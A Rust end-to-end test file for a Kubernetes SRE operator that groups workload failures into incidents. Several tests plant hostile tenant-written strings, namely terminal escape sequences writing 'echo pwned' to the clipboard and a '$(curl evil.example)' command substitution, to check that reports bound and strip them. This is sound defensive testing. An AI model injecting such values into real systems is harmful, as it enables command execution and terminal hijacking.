//! Incidents on a loopback control plane: three Deployments whose images come from one
//! registry that refuses the credentials are one incident. One investigation runs (its report
//! lists every workload); the two others wait for it and take its findings; every report
//! carries the incident's name. Deployments whose Pods a node's kubelet evicts for memory
//! pressure are one incident too, never patched; so are the Pods of a node that stops
//! reporting, as the real node lifecycle controller marks and evicts them, and the Pods a
//! node's kubelet refuses at admission. A missing ConfigMap that workloads mount or read into
//! their env is one incident; so is a CNI plugin that gives their Pods no sandbox, and a
//! ConfigMap whose content the workloads that mount it cannot parse, or that lacks a file they
//! read from it.

mod support;

use std::time::{Duration, Instant};

use anyhow::{Result, bail, ensure};
use kube::api::{Api, PostParams};
use serde_json::json;
use sre_e2e::{demo, fault};
use sre_operator::crd::{DiagnosticReport, FailureClass};
use support::operator::{
    OPERATOR_USER, Operator, await_concluded, operator_writes, shown_without_escapes,
};

const NS: &str = "shop";
const APPS: [&str; 3] = ["cart", "catalog", "checkout"];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workloads_failing_on_one_registry_are_one_incident_investigated_once() -> Result<()> {
    let Some(cluster) = support::cluster_with_policy("incident-e2e", NS, json!({})).await? else {
        return Ok(());
    };
    let client = cluster.client();
    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), NS);
    for app in APPS {
        let d = demo::deployment(
            app,
            json!({ "app": app }),
            Some(fault::IMAGEPULL_AUTH),
            json!([]),
            json!({}),
        );
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    let op = Operator::started(&cluster, "sre-operator-incident-0", NS).await?;

    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    let done = await_one_incident(&reports, APPS.len(), &op).await?;
    ensure!(done.len() == APPS.len(), "one report per workload");
    let incident = done[0].status.as_ref().unwrap().incident.clone().unwrap();
    ensure!(
        done.iter()
            .all(|r| r.status.as_ref().unwrap().incident.as_ref() == Some(&incident))
    );
    // One investigation: only the lead has a brain's record; the members point at it.
    let lead = the_only_investigation(&done)?;
    let detail = lead
        .status
        .as_ref()
        .unwrap()
        .incident_detail
        .as_ref()
        .unwrap();
    ensure!(detail.name == incident);
    ensure!(
        detail
            .cause
            .contains("registry.example.com refuses the credentials"),
        "{}",
        detail.cause
    );
    let mut workloads: Vec<&str> = detail.members.iter().map(|m| m.workload.as_str()).collect();
    workloads.sort();
    ensure!(
        workloads
            == [
                "Deployment/cart",
                "Deployment/catalog",
                "Deployment/checkout"
            ],
        "{workloads:?}"
    );
    for member in done
        .iter()
        .filter(|r| r.status.as_ref().unwrap().incident_detail.is_none())
    {
        let findings = member.status.as_ref().unwrap().findings.as_ref().unwrap();
        let lead = lead.metadata.name.as_deref().unwrap();
        ensure!(
            findings.evidence.iter().any(|e| e.contains(lead)),
            "a member names the report that investigated: {findings:?}"
        );
    }
    let log = op.log();
    ensure!(
        log.matches("report opened").count() == APPS.len(),
        "one report per workload opened:\n{log}"
    );
    // The back-off message quotes the pull error, so opening a report reads no events (one
    // request less per report in a mass failure): the members' Pods had none read at all
    // (only the lead's investigation may read its own).
    let audit = cluster.audited_requests_of(OPERATOR_USER)?;
    let event_reads: Vec<&str> = audit
        .iter()
        .filter_map(|e| e["requestURI"].as_str())
        .filter(|u| u.contains("/events?") && u.contains("involvedObject.name"))
        .collect();
    for member in done
        .iter()
        .filter(|r| r.status.as_ref().unwrap().incident_detail.is_none())
    {
        let app = member.spec.workload.name.as_str();
        ensure!(
            !event_reads
                .iter()
                .any(|u| u.contains(&format!("involvedObject.name%3D{app}-"))),
            "the events of {app}'s Pods were read: {event_reads:#?}"
        );
    }
    Ok(())
}

/// Three Deployments whose Pods the kubelet evicts (the node low on memory; their ReplicaSets
/// replace them and the replacements are evicted too) are one incident about the node, with no
/// patch. One of them carries an eviction message a tenant with `pods/status` rights could
/// write, 16 KiB with terminal escapes: the report quotes a bounded part of it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pods_evicted_for_a_node_under_memory_pressure_are_one_incident() -> Result<()> {
    const APPS: [&str; 3] = ["ledger", "search", "mailer"];
    let Some(cluster) = support::cluster_with_policy("evicted-e2e", NS, json!({})).await? else {
        return Ok(());
    };
    let client = cluster.client();
    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), NS);
    let hostile = format!(
        "The node was low on resource: memory. Threshold quantity: 100Mi, available: 90Mi. \u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{1b}[2J{} ",
        "A".repeat(16 << 10)
    );
    for app in APPS {
        let mut d = demo::deployment(
            app,
            json!({ "app": app }),
            Some(fault::EVICTED),
            json!([]),
            json!({"requests": {"memory": "256Mi"}}),
        );
        // Evicted every 2 s: a ReplicaSet replaces each one at once.
        let annotations = &mut d["spec"]["template"]["metadata"]["annotations"];
        annotations[fault::DELAY_ANNOTATION] = "2s".into();
        if app == "mailer" {
            annotations[fault::MESSAGE_ANNOTATION] = hostile.clone().into();
        }
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    let op = Operator::started(&cluster, "sre-operator-evicted-0", NS).await?;

    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    let done = await_one_incident(&reports, APPS.len(), &op).await?;
    ensure!(
        done.len() == APPS.len(),
        "one report per workload, however many of its Pods were evicted: {:?}",
        done.iter().map(|r| &r.metadata.name).collect::<Vec<_>>()
    );
    let incident = done[0].status.as_ref().unwrap().incident.clone().unwrap();
    for r in &done {
        let failure = &r.spec.failure;
        ensure!(
            failure.class == FailureClass::Evicted && failure.reason == "MemoryPressure",
            "{failure:?}"
        );
        let status = r.status.as_ref().unwrap();
        ensure!(status.incident.as_ref() == Some(&incident), "one incident");
        ensure!(
            status.suggested_patch.is_none(),
            "a node's memory pressure is never patched"
        );
        // The quoted message is bounded; what is quoted keeps the kubelet's words.
        for e in &status.findings.as_ref().unwrap().evidence {
            ensure!(e.len() <= 2048, "an unbounded quote: {} bytes", e.len());
        }
    }
    let detail = the_only_investigation(&done)?
        .status
        .as_ref()
        .unwrap()
        .incident_detail
        .as_ref()
        .unwrap();
    ensure!(detail.cause.contains("memory pressure"), "{}", detail.cause);
    let mailer = done
        .iter()
        .find(|r| r.spec.workload.name == "mailer")
        .unwrap();
    let quoted = &mailer.spec.failure.evidence[0];
    ensure!(
        quoted.len() <= 2048 && quoted.contains("The node was low on resource: memory."),
        "{} bytes: {:.200}",
        quoted.len(),
        quoted
    );
    // Through kubectl sre, no escape sequence the tenant wrote reaches the terminal.
    let shown = shown_without_escapes(&cluster, NS, mailer)?;
    ensure!(
        shown.contains("The node was low on resource: memory."),
        "kubectl sre show: {shown}"
    );
    Ok(())
}

/// Deployments that name their node in their Pod template (`spec.nodeName`) skip the scheduler;
/// the node has no cpu left and its kubelet (a kwok stage writing what `rejectPod` writes)
/// refuses each Pod, and each replacement. Their reports are one incident about that node, no
/// patch, the template's nodeName named as the cause. Two forged refusals (the status is
/// writable by more than the kubelet) join nothing: a shutdown claimed of a Node that is Ready,
/// and a reason no kubelet writes, carrying escapes, which is reported as the generic
/// `Rejected` and never reaches a key, the report's reason or a terminal.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pods_a_kubelet_refuses_are_one_incident_and_forged_refusals_join_none() -> Result<()> {
    const PINNED: [&str; 2] = ["ledger", "search"];
    const NODE: &str = "kwok-node-0";
    let Some(cluster) = support::cluster_with_policy("rejected-e2e", NS, json!({})).await? else {
        return Ok(());
    };
    let client = cluster.client();
    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), NS);
    let hostile_reason = "OutOf$(curl evil.example)\u{1b}]52;c;cHduZWQ=\u{7}";
    let forged: [(&str, &str, &str); 2] = [
        (
            "mailer",
            "Terminated",
            "Pod was terminated in response to imminent node shutdown.",
        ),
        (
            "relay",
            hostile_reason,
            "Pod was rejected: \u{1b}[2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}",
        ),
    ];
    let pinned = PINNED.iter().map(|app| (*app, None));
    let forged_apps = forged.iter().map(|(app, r, m)| (*app, Some((*r, *m))));
    for (app, forge) in pinned.chain(forged_apps) {
        let mut d = demo::deployment(
            app,
            json!({ "app": app }),
            Some(fault::REJECTED),
            json!([]),
            json!({"requests": {"cpu": "1"}}),
        );
        d["spec"]["template"]["spec"]["nodeName"] = NODE.into();
        let annotations = &mut d["spec"]["template"]["metadata"]["annotations"];
        // Each refusal makes a replacement: a refusal every 2 s keeps the pile small.
        annotations[fault::DELAY_ANNOTATION] = "2s".into();
        if let Some((reason, message)) = forge {
            annotations[fault::REASON_ANNOTATION] = reason.into();
            annotations[fault::MESSAGE_ANNOTATION] = message.into();
        }
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    let op = Operator::started(&cluster, "sre-operator-rejected-0", NS).await?;

    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    let done = await_one_incident(&reports, PINNED.len(), &op).await?;
    // The forged refusals may be reported by then, each on its own.
    let members: Vec<DiagnosticReport> = done
        .into_iter()
        .filter(|r| PINNED.contains(&r.spec.workload.name.as_str()))
        .collect();
    ensure!(members.len() == PINNED.len(), "one report per workload");
    let incident = members[0]
        .status
        .as_ref()
        .unwrap()
        .incident
        .clone()
        .unwrap();
    for r in &members {
        let failure = &r.spec.failure;
        ensure!(
            failure.class == FailureClass::Evicted && failure.reason == "OutOfcpu",
            "{failure:?}"
        );
        let status = r.status.as_ref().unwrap();
        ensure!(status.incident.as_ref() == Some(&incident), "one incident");
        ensure!(
            status.suggested_patch.is_none(),
            "{:?}",
            status.suggested_patch
        );
    }
    let lead = the_only_investigation(&members)?;
    let status = lead.status.as_ref().unwrap();
    let detail = status.incident_detail.as_ref().unwrap();
    ensure!(
        detail.cause.contains(NODE) && detail.cause.contains("OutOfcpu"),
        "{}",
        detail.cause
    );
    let findings = status.findings.as_ref().unwrap();
    ensure!(
        findings
            .root_cause
            .contains(&format!("spec.nodeName: {NODE}")),
        "the pinned template is the cause: {}",
        findings.root_cause
    );

    // The forged refusals: each reported on its own, in no incident.
    let forged_apps: Vec<&str> = forged.iter().map(|(app, _, _)| *app).collect();
    let alone = await_concluded(&reports, &forged_apps, &op).await?;
    for r in &alone {
        let status = r.status.as_ref().unwrap();
        ensure!(
            status.incident.is_none(),
            "{} joined incident {:?}",
            r.spec.workload.name,
            status.incident
        );
        let expected = if r.spec.workload.name == "mailer" {
            "NodeShutdown"
        } else {
            "Rejected"
        };
        ensure!(r.spec.failure.reason == expected, "{:?}", r.spec.failure);
        let text = shown_without_escapes(&cluster, NS, r)?;
        ensure!(
            !text.contains("$(curl"),
            "the forged reason reached the terminal:\n{text}"
        );
    }
    // The operator observes: it wrote nothing to the refused Pods or their Deployments.
    let writes = operator_writes(&cluster, &["pods", "deployments", "nodes"])?;
    ensure!(writes.is_empty(), "the operator wrote: {writes:?}");
    Ok(())
}

/// Pods that never start. One missing ConfigMap breaks workloads two ways: two mount it as a
/// volume (the kubelet cannot mount it; the Pods stay `ContainerCreating` and only `FailedMount`
/// events say why) and one reads a key of it into its env (`CreateContainerConfigError`): one
/// incident about the ConfigMap. Two more workloads' Pods get no sandbox, the CNI plugin
/// failing (`FailedCreatePodSandBox`): one incident about the plugin, never patched. Each is
/// investigated once. One more waits for a ReadWriteOnce volume held on another node
/// (`FailedAttachVolume`): reported alone, naming the Pod that holds it. A starting Pod's events are read only once it has been starting for
/// `STUCK_AFTER` (the audit log's times), and a Deployment that starts normally has none read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pods_that_never_start_are_one_incident_per_missing_config_map_or_failing_plugin()
-> Result<()> {
    use k8s_openapi::api::core::v1::Pod;
    const MOUNTED: [&str; 2] = ["cart", "catalog"];
    const SANDBOXED: [&str; 2] = ["ledger", "search"];
    let Some(cluster) = support::cluster_with_policy("mount-e2e", NS, json!({})).await? else {
        return Ok(());
    };
    let client = cluster.client();
    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), NS);
    for app in MOUNTED {
        let mut d = demo::deployment(
            app,
            json!({ "app": app }),
            Some(fault::MOUNT_MISSING_CONFIG),
            json!([]),
            json!({}),
        );
        let spec = &mut d["spec"]["template"]["spec"];
        spec["volumes"] = json!([{"name": "config", "configMap": {"name": "app-config"}}]);
        spec["containers"][0]["volumeMounts"] =
            json!([{"name": "config", "mountPath": "/etc/app"}]);
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    let env = json!([{"name": "DATABASE_URL",
        "valueFrom": {"configMapKeyRef": {"name": "app-config", "key": "database_url"}}}]);
    for (app, fault, env) in [
        ("checkout", Some(fault::CONFIG_MISSING_KEY), env),
        (SANDBOXED[0], Some(fault::SANDBOX_NETWORK), json!([])),
        (SANDBOXED[1], Some(fault::SANDBOX_NETWORK), json!([])),
        ("reports", Some(fault::ATTACH_MULTI), json!([])),
        ("web", None, json!([])),
    ] {
        let d = demo::deployment(app, json!({ "app": app }), fault, env, json!({}));
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    let op = Operator::started(&cluster, "sre-operator-mount-0", NS).await?;

    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    let done = await_incidents(&reports, &[3, 2], &op).await?;
    // The volume held elsewhere is a cause of its own: reported alone, once concluded.
    let attach = await_concluded(&reports, &["reports"], &op)
        .await?
        .remove(0);
    ensure!(
        attach.spec.failure.class == FailureClass::Pending
            && attach.spec.failure.reason == "VolumeAttachFailed",
        "{:?}",
        attach.spec.failure
    );
    let status = attach.status.as_ref().unwrap();
    ensure!(status.incident.is_none() && status.suggested_patch.is_none());
    let root_cause = &status.findings.as_ref().unwrap().root_cause;
    ensure!(
        root_cause.contains("data-old-0") && root_cause.contains("ReadWriteOnce"),
        "{root_cause}"
    );
    let done: Vec<DiagnosticReport> = done
        .into_iter()
        .filter(|r| r.spec.workload.name != "reports")
        .collect();
    ensure!(done.len() == 5, "no report for the healthy Deployment");
    let (sandboxed, config): (Vec<DiagnosticReport>, Vec<DiagnosticReport>) = done
        .into_iter()
        .partition(|r| SANDBOXED.contains(&r.spec.workload.name.as_str()));
    for r in &config {
        let failure = &r.spec.failure;
        let want = if r.spec.workload.name == "checkout" {
            "ConfigMapKeyNotFound"
        } else {
            "ConfigMapNotFound"
        };
        ensure!(
            failure.class == FailureClass::CreateContainerConfigError && failure.reason == want,
            "{}: {failure:?}",
            r.spec.workload.name
        );
    }
    let lead = the_only_investigation(&config)?;
    let cause = &lead
        .status
        .as_ref()
        .unwrap()
        .incident_detail
        .as_ref()
        .unwrap()
        .cause;
    ensure!(cause.contains("ConfigMap shop/app-config"), "{cause}");
    for r in &sandboxed {
        let failure = &r.spec.failure;
        ensure!(
            failure.class == FailureClass::Pending && failure.reason == "NetworkSetupFailed",
            "{failure:?}"
        );
        ensure!(r.status.as_ref().unwrap().suggested_patch.is_none());
    }
    let lead = the_only_investigation(&sandboxed)?;
    let cause = &lead
        .status
        .as_ref()
        .unwrap()
        .incident_detail
        .as_ref()
        .unwrap()
        .cause;
    ensure!(cause.contains("calico CNI plugin"), "{cause}");

    // When each Pod's events were first read, against when it was created.
    let pods: Api<Pod> = Api::namespaced(client.clone(), NS);
    let created: Vec<(String, k8s_openapi::jiff::Timestamp)> = pods
        .list(&Default::default())
        .await?
        .items
        .into_iter()
        .filter_map(|p| Some((p.metadata.name?, p.metadata.creation_timestamp?.0)))
        .collect();
    let audit = cluster.audited_requests_of(OPERATOR_USER)?;
    let first_read = |pod: &str| {
        audit
            .iter()
            .filter(|e| {
                e["requestURI"].as_str().is_some_and(|u| {
                    u.contains("/events?") && u.contains(&format!("involvedObject.name%3D{pod}"))
                })
            })
            .filter_map(|e| {
                e["requestReceivedTimestamp"]
                    .as_str()?
                    .parse::<k8s_openapi::jiff::Timestamp>()
                    .ok()
            })
            .min()
    };
    let mut starting_read = 0;
    for (pod, at) in &created {
        let Some(read) = first_read(pod) else {
            continue;
        };
        ensure!(
            !pod.starts_with("web-"),
            "a healthy Pod's events were read: {pod}"
        );
        if MOUNTED
            .iter()
            .chain(&SANDBOXED)
            .chain(&["reports"])
            .any(|app| pod.starts_with(&format!("{app}-")))
        {
            let waited = read.duration_since(*at).as_secs();
            ensure!(
                waited >= sre_operator::failure::STUCK_AFTER.as_secs() as i64,
                "{pod}'s events were read {waited} s after it was created"
            );
            starting_read += 1;
        }
    }
    ensure!(
        starting_read >= 2,
        "{starting_read} starting Pods had their events read"
    );
    Ok(())
}

/// A node stops reporting: the test registers a node of its own (kwok does not manage it), is
/// its kubelet (renews its Lease, writes its Pods' status Running and ready), then stops. The
/// real kube-controller-manager marks the node unreachable, marks its Pods not ready and, when
/// their toleration of the NoExecute taint runs out, deletes them; the deletions wait on a
/// kubelet that is gone. The Deployments' reports are one incident about unreachable nodes, with
/// no patch, and Pods the scheduler cannot place for that taint join it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pods_of_a_node_that_stops_reporting_are_one_incident() -> Result<()> {
    use k8s_openapi::api::core::v1::{Node, Pod};
    use k8s_openapi::jiff::Timestamp;
    use kube::api::{Patch, PatchParams};

    const APPS: [&str; 2] = ["orders", "billing"];
    const LOST: &str = "node-lost";
    let mut options = sre_e2e::ClusterOptions::default();
    options.extra_args.insert(
        "kube-controller-manager".into(),
        vec![
            // Above kwok's lease renewal interval (a quarter of its 40 s lease), or its live
            // nodes would flap NotReady between renewals.
            "--node-monitor-period=1s".into(),
            "--node-monitor-grace-period=16s".into(),
        ],
    );
    let Some(cluster) =
        support::cluster_with_options_and_policy("node-lost-e2e", options, NS, json!({})).await?
    else {
        return Ok(());
    };
    let client = cluster.client();

    // The node, registered as a kubelet registers it, and its heartbeat: the Lease renewed
    // every second until the "kubelet" stops.
    let nodes: Api<Node> = Api::all(client.clone());
    nodes
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({
                "metadata": {"name": LOST, "labels": {"kubernetes.io/hostname": LOST, "kubernetes.io/os": "linux"}},
            }))?,
        )
        .await?;
    let amounts = json!({"cpu": "4", "memory": "8Gi", "pods": "110"});
    let now = Timestamp::now().to_string();
    nodes
        .patch_status(
            LOST,
            &PatchParams::default(),
            &Patch::Merge(json!({"status": {"capacity": amounts, "allocatable": amounts,
                "conditions": [{"type": "Ready", "status": "True", "reason": "KubeletReady",
                    "message": "kubelet is posting ready status", "lastHeartbeatTime": now, "lastTransitionTime": now}]}})),
        )
        .await?;
    let leases: Api<k8s_openapi::api::coordination::v1::Lease> =
        Api::namespaced(client.clone(), "kube-node-lease");
    let lease = |renew: String| {
        json!({"metadata": {"name": LOST},
            "spec": {"holderIdentity": LOST, "leaseDurationSeconds": 40, "renewTime": renew}})
    };
    leases
        .create(
            &PostParams::default(),
            &serde_json::from_value(lease(micro_now()))?,
        )
        .await?;
    let heartbeat = {
        let leases = leases.clone();
        tokio::spawn(async move {
            loop {
                tokio::time::sleep(Duration::from_secs(1)).await;
                let _ = leases
                    .patch(
                        LOST,
                        &PatchParams::default(),
                        &Patch::Merge(lease(micro_now())),
                    )
                    .await;
            }
        })
    };
    schedulable(&nodes, LOST).await?;

    let deployments: Api<k8s_openapi::api::apps::v1::Deployment> =
        Api::namespaced(client.clone(), NS);
    for app in APPS {
        let mut d = demo::deployment(app, json!({ "app": app }), None, json!([]), json!({}));
        let spec = &mut d["spec"]["template"]["spec"];
        spec["nodeSelector"] = json!({"kubernetes.io/hostname": LOST});
        // Deleted 3 s after the node's NoExecute taint (the default is 300 s).
        spec["tolerations"] = json!([
            {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 3},
            {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 3},
        ]);
        deployments
            .create(&PostParams::default(), &serde_json::from_value(d)?)
            .await?;
    }
    // The kubelet's part: each Pod the scheduler binds here runs and is ready.
    let pods: Api<Pod> = Api::namespaced(client.clone(), NS);
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut running = std::collections::BTreeSet::new();
    while running.len() < APPS.len() {
        ensure!(
            Instant::now() < deadline,
            "the Pods were never bound to {LOST}"
        );
        for p in pods.list(&Default::default()).await?.items {
            let name = p.metadata.name.clone().unwrap_or_default();
            let bound = p.spec.as_ref().and_then(|s| s.node_name.as_deref()) == Some(LOST);
            if !bound || running.contains(&name) {
                continue;
            }
            let now = Timestamp::now().to_string();
            let conditions: Vec<_> = [
                "PodReadyToStartContainers",
                "Initialized",
                "Ready",
                "ContainersReady",
                "PodScheduled",
            ]
            .iter()
            .map(|t| json!({"type": t, "status": "True", "lastTransitionTime": now}))
            .collect();
            let image = p.spec.as_ref().unwrap().containers[0].image.clone();
            pods.patch_status(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"status": {"phase": "Running", "conditions": conditions,
                    "hostIP": "127.0.0.1", "startTime": now,
                    "containerStatuses": [{"name": "app", "image": image, "imageID": "", "ready": true,
                        "started": true, "restartCount": 0, "state": {"running": {"startedAt": now}}}]}})),
            )
            .await?;
            running.insert(name);
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    let op = Operator::started(&cluster, "sre-operator-node-lost-0", NS).await?;
    // Healthy: nothing to report while the node answers.
    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    tokio::time::sleep(Duration::from_secs(2)).await;
    ensure!(
        reports.list(&Default::default()).await?.items.is_empty(),
        "a report while the node was healthy"
    );

    // The kubelet dies.
    heartbeat.abort();

    let deadline = Instant::now() + Duration::from_secs(120);
    let done = loop {
        let list = reports.list(&Default::default()).await?.items;
        let stranded = list
            .iter()
            .filter(|r| concluded_in_incident(r))
            .filter(|r| {
                r.spec.failure.class == FailureClass::Evicted
                    && r.spec.failure.reason == "NodeNotReady"
            })
            .count();
        if stranded == APPS.len() && list.iter().all(concluded_in_incident) {
            break list;
        }
        if Instant::now() > deadline {
            bail!(
                "not {} NoFix NodeNotReady reports in one incident within 120 s: {:#?}\nnode: {:#?}\npods: {:#?}\noperator log:\n{}",
                APPS.len(),
                list.iter()
                    .map(|r| (&r.metadata.name, &r.spec.failure, &r.status))
                    .collect::<Vec<_>>(),
                nodes.get(LOST).await?,
                pods.list(&Default::default())
                    .await?
                    .items
                    .iter()
                    .map(|p| (&p.metadata.name, &p.metadata.deletion_timestamp, &p.status))
                    .collect::<Vec<_>>(),
                op.log()
            );
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    let incident = done[0].status.as_ref().unwrap().incident.clone().unwrap();
    for r in &done {
        let status = r.status.as_ref().unwrap();
        ensure!(
            status.incident.as_ref() == Some(&incident),
            "one incident: {:?}",
            done.iter()
                .map(|r| (&r.metadata.name, &r.status.as_ref().unwrap().incident))
                .collect::<Vec<_>>()
        );
        ensure!(
            status.suggested_patch.is_none(),
            "a lost node is never patched"
        );
    }
    let lead = the_only_investigation(&done)?;
    let status = lead.status.as_ref().unwrap();
    let cause = &status.incident_detail.as_ref().unwrap().cause;
    ensure!(cause.contains("Nodes are unreachable"), "{cause}");
    if lead.spec.failure.class == FailureClass::Evicted {
        let root = &status.findings.as_ref().unwrap().root_cause;
        ensure!(root.contains(LOST), "{root}");
    }
    Ok(())
}

/// A Lease's renewTime: RFC 3339 with microseconds, as the API server requires of a MicroTime.
fn micro_now() -> String {
    k8s_openapi::jiff::Timestamp::now()
        .strftime("%Y-%m-%dT%H:%M:%S.%6fZ")
        .to_string()
}

/// Waits until the node is Ready and carries no taint (the node controller's not-ready taint
/// goes once it sees the heartbeat), so the scheduler may bind to it.
async fn schedulable(nodes: &Api<k8s_openapi::api::core::v1::Node>, name: &str) -> Result<()> {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let node = nodes.get(name).await?;
        let ready = node
            .status
            .as_ref()
            .and_then(|s| s.conditions.as_ref())
            .is_some_and(|c| c.iter().any(|c| c.type_ == "Ready" && c.status == "True"));
        let tainted = node
            .spec
            .as_ref()
            .and_then(|s| s.taints.as_ref())
            .is_some_and(|t| !t.is_empty());
        if ready && !tainted {
            return Ok(());
        }
        ensure!(
            Instant::now() < deadline,
            "node {name} never became schedulable: {node:?}"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

/// An evicted Pod stays until someone deletes it: with a one-second cooldown, its report is
/// opened once and not deleted and opened again for the same eviction when the cooldown ends.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_eviction_is_reported_once_however_long_its_pod_stays() -> Result<()> {
    let Some(cluster) =
        support::cluster_with_policy("evicted-once-e2e", NS, json!({"cooldown": "1s"})).await?
    else {
        return Ok(());
    };
    let client = cluster.client();
    // A bare Pod: no controller replaces it, so there is exactly one eviction.
    let pod = sre_e2e::fixtures::PodBuilder::new("batch-runner")
        .namespace(NS)
        .label("app", "batch-runner")
        .label(fault::LABEL, fault::EVICTED)
        .spec(
            json!({"terminationGracePeriodSeconds": 0, "containers": [{"name": "app",
            "image": "registry.example.com/shop/batch-runner:1.8.2"}]}),
        )
        .build();
    let mut pod = serde_json::to_value(pod)?;
    pod["metadata"]["annotations"] = json!({ fault::DELAY_ANNOTATION: "300ms" });
    pod.as_object_mut().unwrap().remove("status");
    let pods: Api<k8s_openapi::api::core::v1::Pod> = Api::namespaced(client.clone(), NS);
    pods.create(&PostParams::default(), &serde_json::from_value(pod)?)
        .await?;
    let op = Operator::started(&cluster, "sre-operator-evicted-once-0", NS).await?;

    let reports: Api<DiagnosticReport> = Api::namespaced(client.clone(), NS);
    let deadline = Instant::now() + Duration::from_secs(60);
    let first = loop {
        let list = reports.list(&Default::default()).await?.items;
        if let Some(r) = list.into_iter().find(|r| {
            r.status
                .as_ref()
                .is_some_and(|s| s.phase.is_some_and(|p| p.as_str() == "NoFix"))
        }) {
            break r;
        }
        ensure!(
            Instant::now() < deadline,
            "no NoFix report within 60 s:\n{}",
            op.log()
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    };
    ensure!(first.spec.failure.class == FailureClass::Evicted);
    // Several cooldowns later (and a change to the Pod, which reconciles it again).
    tokio::time::sleep(Duration::from_secs(3)).await;
    pods.patch(
        "batch-runner",
        &kube::api::PatchParams::default(),
        &kube::api::Patch::Merge(json!({"metadata": {"labels": {"touched": "yes"}}})),
    )
    .await?;
    tokio::time::sleep(Duration::from_secs(3)).await;
    let list = reports.list(&Default::default()).await?.items;
    ensure!(
        list.len() == 1 && list[0].metadata.uid == first.metadata.uid,
        "the same eviction was reported again: {:?}",
        list.iter()
            .map(|r| (&r.metadata.name, &r.metadata.uid))
            .collect::<Vec<_>>()
    );
    let log = op.log();
    ensure!(
        log.matches("report opened").count() == 1,
        "one report opened:\n{log}"
    );
    Ok(())
}

/// The operator, started and ready, watching `NS`.
/// Two crash-looping Deployments (`cart`, `checkout`) that mount ConfigMap shop-config (holding
/// `data`) at /etc/shop and whose log is `log`, on a cluster of their own: the lead's status once
/// they are one incident, checked to hold no patch and to have written no ConfigMap, workload
/// or Pod.
async fn config_map_incident(
    cluster_name: &str,
    data: serde_json::Value,
    log: &str,
) -> Result<Option<sre_operator::crd::DiagnosticReportStatus>> {
    const APPS: [&str; 2] = ["cart", "checkout"];
    let Some(cluster) = support::cluster_with_policy(cluster_name, NS, json!({})).await? else {
        return Ok(None);
    };
    cluster.set_logs(NS, None, "app", "", log).await?;
    let mut items = vec![json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "shop-config", "namespace": NS}, "data": data})];
    for app in APPS {
        let mut d = demo::deployment(
            app,
            json!({ "app": app }),
            Some(fault::CRASHLOOP),
            json!([]),
            json!({}),
        );
        let spec = &mut d["spec"]["template"]["spec"];
        spec["volumes"] = json!([{"name": "config", "configMap": {"name": "shop-config"}}]);
        spec["containers"][0]["volumeMounts"] =
            json!([{"name": "config", "mountPath": "/etc/shop"}]);
        d["metadata"]["namespace"] = NS.into();
        items.push(d);
    }
    support::apply_json(
        &cluster,
        cluster_name,
        json!({"apiVersion": "v1", "kind": "List", "items": items}),
    )?;
    let op = Operator::started(&cluster, &format!("sre-operator-{cluster_name}"), NS).await?;
    let reports: Api<DiagnosticReport> = Api::namespaced(cluster.client(), NS);
    let done = await_one_incident(&reports, APPS.len(), &op).await?;
    for r in &done {
        ensure!(
            r.status.as_ref().unwrap().suggested_patch.is_none(),
            "never patched"
        );
    }
    let writes = operator_writes(&cluster, &["configmaps", "deployments", "pods"])?;
    ensure!(writes.is_empty(), "the operator wrote: {writes:?}");
    Ok(Some(
        the_only_investigation(&done)?
            .status
            .clone()
            .unwrap_or_default(),
    ))
}

/// ConfigMap shop-config's key config.yaml was renamed; two Deployments mount the whole ConfigMap,
/// so the kubelet mounts the keys there are and the applications exit on a file that is not
/// there. One incident: the ConfigMap read live names the key it lacks and the keys it has.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn workloads_missing_a_file_their_config_map_would_hold_are_one_incident() -> Result<()> {
    let log = "time=2026-12-07T09:12:02Z level=ERROR msg=\"failed to load configuration\" err=\"open /etc/shop/config.yaml: no such file or directory\"";
    let data = json!({"shop.yaml": "currency: EUR\n"});
    let Some(lead) = config_map_incident("configkey-e2e", data, log).await? else {
        return Ok(());
    };
    let root_cause = lead.findings.unwrap_or_default().root_cause;
    ensure!(
        root_cause.contains("has no such key (its keys: shop.yaml)"),
        "{root_cause}"
    );
    Ok(())
}

/// An edit broke the YAML in ConfigMap shop-config; two Deployments that mount it crash-loop on
/// it. One incident about the ConfigMap and its key, no patch, and the operator writes no
/// ConfigMap: the fix is a person's.
